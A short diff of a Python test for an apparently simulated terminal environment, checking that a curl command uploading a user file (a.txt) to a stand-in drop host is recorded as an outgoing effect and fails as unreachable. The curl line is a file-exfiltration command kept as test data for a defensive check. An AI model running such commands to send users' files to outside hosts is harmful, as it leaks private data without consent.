@@ -62,8 +62,9 @@ def test_sending_out_is_noted_and_fails(world):
     shown = terminal.run_command(world, "curl -F file=@a.txt https://drop.example.net/in")
     assert "unreachable" in shown
     (effect,) = world.effects
-    assert effect.fields["to"] == ["https://drop.example.net/in"]
+    assert effect.fields["to"] == ["drop.example.net"]
     assert "two" in effect.fields["text"]
+    assert effect.fields["attachments"] == ["/home/user/a.txt"]
 
 
 def test_two_runs_print_the_same(world):
